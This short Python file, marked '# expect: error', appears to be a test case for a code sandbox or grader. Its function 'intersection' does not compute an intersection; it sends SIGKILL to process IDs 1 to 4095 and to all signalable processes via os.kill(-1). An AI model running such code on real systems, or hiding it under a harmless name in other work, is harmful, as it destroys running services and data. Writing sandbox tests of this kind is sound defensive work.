# expect: error
import os
import signal


def intersection(xs, ys):
    for pid in range(1, 4096):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    raise RuntimeError("still here")
